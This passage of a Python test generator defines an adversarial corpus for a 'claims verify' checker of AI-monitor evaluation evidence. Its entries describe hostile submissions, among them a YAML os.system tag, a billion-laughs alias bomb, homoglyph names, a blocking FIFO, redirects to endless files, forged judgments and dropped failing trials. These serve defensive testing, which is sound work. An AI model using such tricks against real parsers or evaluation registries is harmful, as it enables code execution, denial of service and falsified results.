        ["lfs-pointer", "raw-log-hash-mismatch"],
        "is a Git LFS pointer",
        _pr_git_change("lfs"),
    ),
    _entry(
        "two-attempts-in-one-pull-request",
        "the pull request also starts an attempt in another market",
        ["freeze-only", "several-attempts"],
        "2 attempt folders",
        _pr_git_change("two-attempts"),
    ),
    _entry(
        "special-file-fifo",
        "raw-log/ holds a named pipe, which blocks a reader that opens it",
        ["special-file"],
        "not a regular file",
        _fifo,
    ),
    _entry(
        "too-many-files",
        "250 extra files in the attempt folder",
        ["too-many-files"],
        "more than 200 files",
        _many_files,
    ),
    # 3. names
    _entry(
        "name-clash-case-insensitive-file",
        "the pull request adds Trials.JSONL beside trials.jsonl (one file on macOS/Windows)",
        ["path-collision"],
        "are one name once case and Unicode forms are folded",
        _case_clash,
    ),
    _entry(
        "name-clash-submitter-case",
        "a second submitter folder Alice-Lab beside alice-lab",
        ["path-collision"],
        "attempts/market-03/alice-lab and attempts/market-03/Alice-Lab are one name",
        _submitter_clash,
    ),
    _entry(
        "lookalike-submitter-cyrillic",
        "the submitter slug spells alice-lab with a Cyrillic a (U+0430)",
        ["schema"],
        "submitter: '\u0430lice-lab' does not match",
        _look_alike("\u0430lice-lab"),
    ),
    _entry(
        "lookalike-submitter-zero-width",
        "the submitter slug hides a zero-width space inside alice-lab",
        ["name-invisible-character", "schema"],
        "ZERO WIDTH SPACE",
        _look_alike("alice\u200b-lab"),
    ),
    _entry(
        "lookalike-submitter-in-pull-request",
        "the look-alike (Cyrillic a) submitter folder arrives in a pull request",
        ["path-characters"],
        "outside printable ASCII",
        _look_alike_in_pr,
    ),
    # 4. YAML
    _entry(
        "yaml-alias-bomb",
        "attempt.yaml nests nine levels of anchors, each aliased nine times (a billion laughs)",
        ["yaml-unsafe"],
        "anchors are not allowed",
        _files(_alias_bomb),
    ),
    _entry(
        "yaml-deep-nesting",
        "attempt.yaml holds a list nested 5,000 levels deep",
        ["yaml-unsafe"],
        "nesting",  # "too deep (libyaml's cap)" or "deeper than 64 levels" (ours)
        _files(_yaml_deep),
    ),
    _entry(
        "yaml-duplicate-key",
        "attempt.yaml states market twice; a lenient parser keeps the last",
        ["yaml-unsafe"],
        "duplicate key 'market' (first on line 2)",
        _files(_yaml_duplicate),
    ),
    _entry(
        "yaml-python-tag",
        "freeze.yaml asks for !!python/object/apply:os.system",
        ["yaml-unsafe"],
        "tags are not allowed",
        _files(_yaml_python_tag),
    ),
    _entry(
        "yaml-second-document",
        "attempt.yaml carries a second YAML document naming another market and submitter",
        ["yaml-unsafe"],
        "more than one YAML document",
        _files(_yaml_second_document),
    ),
    _entry(
        "yaml-over-size-limit",
        "attempt.yaml padded past 1 MB with a comment",
        ["yaml-unsafe"],
        "over the 1000000-byte limit",
        _files(_yaml_over_size),
    ),
    _entry(
        "yaml-integer-past-float",
        "attempt.yaml gives red-team hours as a 400-digit integer",
        ["yaml-invalid"],
        "out of range",
        _files(_yaml_huge_integer),
    ),
    # 5. JSONL
    _entry(
        "jsonl-deep-nesting",
        "a trial holds a list nested 200 levels deep",
        ["jsonl-invalid"],
        "nested deeper than 64 levels",
        _files(_jsonl_deep),
    ),
    _entry(
        "jsonl-duplicate-key",
        "a trial states case_id twice; json keeps the last",
        ["jsonl-invalid"],
        "duplicate key 'case_id'",
        _files(_jsonl_duplicate),
    ),
    _entry(
        "jsonl-line-50mb",
        "one 50 MB line appended to trials.jsonl",
        ["jsonl-invalid"],
        "line longer than",
        _fifty_megabytes,
    ),
    _entry(
        "jsonl-nan-score",
        "a trial's score is the bare literal NaN",
        ["jsonl-invalid"],
        "NaN",
        _files(_splice("trials.jsonl", "score", b"NaN")),
    ),
    _entry(
        "jsonl-infinity-score",
        "a trial's score is -Infinity",
        ["jsonl-invalid"],
        "Infinity",
        _files(_splice("trials.jsonl", "score", b"-Infinity")),
    ),
    _entry(
        "jsonl-overflowing-score",
        "a trial's score is 1e400, which json reads as infinity",
        ["jsonl-invalid"],
        "out of range",
        _files(_splice("trials.jsonl", "score", b"1e400")),
    ),
    _entry(
        "jsonl-integer-past-float",
        "a trial's score is a 400-digit integer",
        ["jsonl-invalid"],
        "out of range",
        _files(_splice("trials.jsonl", "score", b"9" * 400)),
    ),
    _entry(
        "jsonl-bom",
        "trials.jsonl starts with a UTF-8 byte order mark",
        ["jsonl-invalid"],
        "byte order mark",
        _files(_jsonl_bom),
    ),
    _entry(
        "jsonl-bare-cr-hides-a-record",
        "two trials on one line joined by a bare CR (a terminal shows two lines)",
        ["jsonl-invalid"],
        "Extra data",
        _files(_bare_cr),
    ),
    _entry(
        "jsonl-trailing-garbage",
        "a second object after the first trial on its line",
        ["jsonl-invalid"],
        "Extra data",
        _files(_trailing_garbage),
    ),
    _entry(
        "jsonl-lone-surrogate",
        "a trajectory id holds the lone surrogate escape \\ud800",
        ["jsonl-invalid"],
        "surrogate",
        _files(_lone_surrogate),
    ),
    _entry(
        "raw-log-crlf-converted",
        "the raw log was committed with CRLF line endings (git autocrlf): not the hashed log",
        ["raw-log-hash-mismatch"],
        "raw_log.sha256",
        _files(_crlf_log),
    ),
    # 6. times
    _entry(
        "timestamp-without-offset",
        "a trial's started_at has no UTC offset",
        ["timestamp-naive"],
        "offset",
        _files(_naive),
    ),
    _entry(
        "timestamp-in-the-future",
        "a trial started in 2031, years after its trials landed on main",
        ["trial-in-future"],
        "2031-05-01",
        _derived(_trials(_future)),
    ),
    _entry(
        "trial-before-freeze",
        "one trial started the day before the freeze",
        ["trial-before-freeze"],
        "not after the freeze",
        _files(_trials(_before_freeze)),
    ),
    _entry(
        "freeze-rewritten-after-run",
        "after the run merged, a second pull request re-freezes a reworded case",
        ["trial-before-freeze"],
        "not after the freeze",
        _freeze_rewritten,
    ),
    _entry(
        "freeze-backdated-fast-forward",
        "freeze and run land together as the filer's own back-dated commit",
        ["freeze-order", "trial-in-future"],
        "not by GitHub merging a pull request",
        _freeze_backdated,
    ),
    # 7. cases and trials
    _entry(
        "second-trial-case-id-in-capitals",
        "a second trial of a case under its id in capitals (SANDBAGGING-001)",
        ["unknown-case"],
        "SANDBAGGING-001",
        _files(_again("SANDBAGGING-001")),
    ),
    _entry(
        "second-trial-case-id-with-whitespace",
        "a second trial of a case under its id with a trailing space",
        ["schema"],
        "case_id: 'sandbagging-001 ' does not match",
        _files(_again("sandbagging-001 ")),
    ),
    _entry(
        "second-trial-case-id-fullwidth",
        "a second trial of a case under its id with a fullwidth s (NFKC folds it back)",
        ["schema"],
        "case_id: '\uff53andbagging-001' does not match",
        _files(_trials(_fullwidth_case_id)),
    ),
    _entry(
        "case-edited-after-freeze",
        "a frozen case's prompt reworded, its frozen sha256 left as it was",
        ["case-hash-mismatch"],
        "sha256 says",
        _files(_cases(_reworded_case)),
    ),
    _entry(
        "case-frozen-twice-under-new-id",
        "one case frozen again under a new id, to count its trial twice",
        ["duplicate-case"],
        "same content",
        _files(_frozen_twice),
    ),
    _entry(
        "failing-trial-dropped",
        "the trial of a case the monitor got wrong is left out",
        ["missing-trial"],
        "has no trial",
        _files(_drop_failure),
    ),
    # 8. scores and bars
    _entry(
        "score-table-rounds-in-its-favour",
        "scores.yaml rounds the false-safe bound down, under the bar",
        ["score-table-mismatch"],
        "bars.false-safe.bound: scores.yaml says 0.170000, the cases and trials give",
        _files(_rounded),
    ),
    _entry(
        "supplied-bar-no-scored-case",
        "no attack trial has a scored verdict, so the supplied false-safe bar is never tested",
        ["bar-not-exercised"],
        "no scored case: the bar was never tested",
        _derived(_no_scored_case),
        exit=0,
        status="not-qualifying",
    ),
    _entry(
        "universal-abstention",
        "every certificate abstains, so nothing the monitor says can be wrong",
        ["universal-abstention"],
        "universal abstention is not a YES",
        _files(_abstain),
        exit=0,
        status="not-qualifying",
    ),
    _entry(
        "one-attack-family",
        "every attack trial shares one attack family, so they are one unit",
        ["bar-refused", "sample-size"],
        "share a unit",
        _derived(_trials(_one_family)),
        exit=0,
        status="not-qualifying",
    ),
    # 9. judgments
    _entry(
        "judgments-forged-in-pull-request",
        "the filer's pull request adds judgments.yaml with every check passed",
        ["maintainer-file"],
        "written by maintainers only",
        _forged_in_pr,
    ),
    _entry(
        "judgments-stale-after-evidence-change",
        "a pull request re-scores a judged attempt: the judgments cover other evidence",
        # the score table no longer agrees either: what main would say once merged
        ["merged-evidence-changed", "score-table-mismatch"],
        "merged evidence changes only",
        _stale,
    ),
    _entry(
        "judgments-stale-on-main",
        "judged on main, then a merged pull request edits a trial (checked after the close)",
        ["unresolved-judgment"],
        "is stale and the filing window has closed",
        _stale_on_main,
        exit=0,
        status="not-qualifying",
    ),
    # 10. hidden suites, raw logs, adapters
    _entry(
        "withheld-field-leaked",
        "a frozen case publishes the market's withholdable reference_answer",
        ["withheld-field-leak"],
        "reference_answer: a withholdable field must never be published",
        _files(_cases(_leak)),
    ),
    _entry(
        "withheld-field-respelled",
        "a trial publishes the withholdable field as Reference-Answer",
        ["withheld-field-leak"],
        "spelled differently",
        _files(_trials(_respelled_leak)),
    ),
    _entry(
        "raw-log-excerpt-wrong-size",
        "the tail excerpt of a 2.5 MB log is one byte short",
        ["raw-log-excerpt"],
        "expected exactly 1000000",
        _files(_short_excerpt),
    ),
    _entry(
        "raw-log-url-redirects-to-huge-file",
        "raw_log.url redirects to an endless file (checked with --fetch-raw-logs)",
        ["raw-log-hash-mismatch"],
        "raw_log.url serves more than",
        _redirect_to_huge,
        needs="server",
    ),
    _entry(
        "adapter-tampers-with-its-evidence",
        "a wrapped attempt's adapter rewrites its released data and the attempt's trials",
        ["adapter-mismatch"],
        "trials.jsonl differs",
        _tampering_adapter,
        needs="sandbox",
    ),
    # 11. markets
    _entry(
        "market-14",
        "an attempt filed for market 14, which is not in this registry",
        ["market-unknown"],
        "Market 14 is not in this registry",
        _look_alike(None, market=14),
    ),
    _entry(
        "market-20-without-protocol",
        "a market-20 attempt with red teams but no report of the market's own protocol",
        ["adversarial-budget"],
        "adversarial.protocol must report",
        _market_20(None),
        exit=0,
        status="not-qualifying",
    ),
    _entry(
        "market-20-protocol-altered",
        "a market-20 attempt reports the protocol with fewer rounds than the contract states",
        ["adversarial-budget"],
        "adversarial.protocol.rounds is 2",
        _market_20({**PROTOCOL, "rounds": 2}),
        exit=0,
        status="not-qualifying",
    ),
    _entry(
        "name-clash-case-in-working-tree",
        "Trials.JSONL beside trials.jsonl in a merged attempt, verified on a working tree"
        " (no pull request)",
        ["path-collision"],
        "are one name once case and Unicode forms are folded",
        _files(_case_clash_in_tree),
    ),
    _entry(
        "site-name-clash-file-and-folder",
        "a file NOTES beside a folder NOTES.txt/: one name once the site adds .txt to copies"
        " (the site builds: tests/adversarial/test_corpus.py)",
        [],
        "",
        _files(_site_name_clash),
        exit=0,
        status="qualifying",
    ),
    # issue 21: a command the schema accepted but the sandbox could not start
    _entry(
        "adapter-command-holds-nul",
        "adapter.yaml's command holds a NUL character (YAML's \"\\0\"), which the schema"
        " accepted and the sandbox cannot start, so every scheduled rerun stopped",
        ["adapter-command"],
        "part 1 of the command holds a NUL character",
        _files(_nul_in_command, WRAPPED),
    ),
    _entry(
        "adapter-folder-holds-out",
        "the adapter folder holds its own out/, where the sandbox binds the run's output folder,"
        " so no rerun can lay out its working folder",
        ["adapter-command"],
        "the adapter has its own out/",
        _files(_out_in_adapter, WRAPPED),
    ),
    _entry(
        "raw-log-url-redirects-to-a-malformed-url",
        "raw_log.url redirects to `http://[::1/x`, a broken IPv6 literal (checked with"
        " --fetch-raw-logs)",
        ["raw-log-unavailable"],
        "redirects to a malformed URL (Invalid IPv6 URL)",
        _redirect_to_malformed_url,
        needs="server",
    ),
    _entry(
        "weirdml-eleven-submissions",
        "a challenge attempt whose weirdml-v3 run's operator log gives a task eleven"
        " submissions (the seed allows ten)",
        ["challenge-run-invalid"],
        "scorer-input-invalid",
        _weirdml_eleven_submissions,
    ),
    _entry(
        "rerun-comparison-big-integer",
        "a wrapped attempt's edited trials hold an integer past 2**53-1, which has no RFC 8785"
        " form, and its adapter fails on emptied data",
        ["jsonl-invalid", "adapter-mismatch"],
        "result.n: integer 9007199254740993 is outside ±2**53-1 (I-JSON)",
        _big_integer_in_edited_trials,
        needs="sandbox",
    ),
    _entry(
        "challenge-case-true-retyped-as-1",
        "a challenge attempt copies its run's cases with `hard: true` written as `hard: 1` on"
        " the cases scored as failures, which the bar then no longer selects",
        ["challenge-case-mismatch"],
        "public differs from the run's",
        _challenge_case_retyped,
    ),
)


def build(entry: Entry, ctx: Context) -> Case:
    """Build `entry` under `ctx.out` (a new folder)."""
    ctx.out.mkdir(parents=True, exist_ok=True)
    return entry.build(ctx)


# ---- docs -----------------------------------------------------------------------------------


# The tricks that were not caught when the corpus was written, and how the bot was fixed
# (each fix has its own test besides the corpus entry).
FOUND_HEADING = "## What the corpus found"


def _found() -> list[str]:
    """The section after the table, as docs/adversarial.md has it: what each trick the corpus
    (and the reviews beside it) found did, and what the bot answers now. It is written by hand
    (a hole a job or a workflow holds has no entry in the table), so only the part above it
    is generated."""
    text = DOCS.read_text(encoding="utf-8") if DOCS.exists() else ""
    at = text.find(FOUND_HEADING)
    if at < 0:
        return []
    return text[at + len(FOUND_HEADING) :].strip("\n").splitlines()


def render_docs() -> str:
    """docs/adversarial.md: every entry, its trick and what the bot answers."""
    lines = [
        "# Adversarial corpus",
        "",
        "Hostile attempts, each one trick a filer could play on an honest attempt, and what",
        "`claims verify` answers. Generated by `python -m tests.adversarial.generate --docs`",
        "from the table the tests run (`tests/adversarial/generate.py`, `CORPUS`);",
        "`tests/adversarial/test_corpus.py` builds every entry as a real git registry in a",
        "temporary folder, runs the `claims` CLI on it, and checks the exit code, the exact set",
        "of reason codes (notices aside), a fragment of the message, and that nothing traces back.",
        "",
        "Build them to look at: `python -m tests.adversarial.generate OUT [NAME ...]` writes each",
        "registry to `OUT/<name>/registry-1` and prints the `claims` command that verifies it",
        f"(dated {AS_OF} unless the entry says otherwise; entries that need a local server or the",
        "sandbox are built, but verify as the table says only where the test provides them).",
        "Exit 1: the evidence is invalid. Exit 0 with a status: valid evidence that does not",
        "qualify.",
        "",
        "| entry | trick | codes | exit | message contains |",
        "|---|---|---|---|---|",
    ]
    for entry in CORPUS:
        codes = ", ".join(f"`{code}`" for code in sorted(entry.codes))
        outcome = f"{entry.exit}" + (f" ({entry.status})" if entry.status else "")
        needs = f" (needs the {entry.needs})" if entry.needs else ""
        fragment = entry.fragment.replace("|", "\\|")
        lines.append(
            f"| `{entry.name}` | {entry.trick}{needs} | {codes} | {outcome} | {fragment} |"
        )
    lines += [
        "",
        f"{len(CORPUS)} entries. Random mutations of the same honest attempt:"
        " [fuzzing](fuzzing.md).",
        "",
        FOUND_HEADING,
        "",
        *_found(),
        "",
    ]
    return "\n".join(lines)


def main(argv: Sequence[str]) -> int:
    if list(argv) == ["--docs"]:
        DOCS.write_text(render_docs(), encoding="utf-8")
        return 0
    if not argv:
        print(__doc__, file=sys.stderr)
        return 2
    out, names = Path(argv[0]), set(argv[1:])
    for entry in CORPUS:
        if names and entry.name not in names:
            continue
        case = build(entry, Context(out / entry.name))
        args = case.args if "--as-of" in case.args else [*case.args, "--as-of", AS_OF]
        print(f"{entry.name}: (cd {case.built.root} && claims {' '.join(args)})")
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv[1:]))
